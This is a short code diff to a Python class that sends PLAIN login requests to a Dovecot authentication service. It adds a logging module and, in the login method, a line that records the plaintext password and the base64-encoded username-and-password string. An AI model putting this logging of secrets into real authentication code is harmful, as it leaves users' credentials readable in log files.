@@ -6,6 +6,7 @@ import struct
 import subprocess
 from pathlib import Path
 
+import logs
 from processes import unprivileged
 from programs import Result, run
 
@@ -105,6 +106,7 @@ class Dovecot:
     def plain(self, user: str, password: str, id: int = 1, parameters: str = "") -> str | None:
         """The answer to a PLAIN login."""
         message = base64.b64encode(f"\0{user}\0{password}".encode()).decode()
+        logs.note(password, message)
         self.send(f"AUTH\t{id}\tPLAIN\tservice=smtp\t{parameters}resp={message}\n".encode())
         return self.line()
 
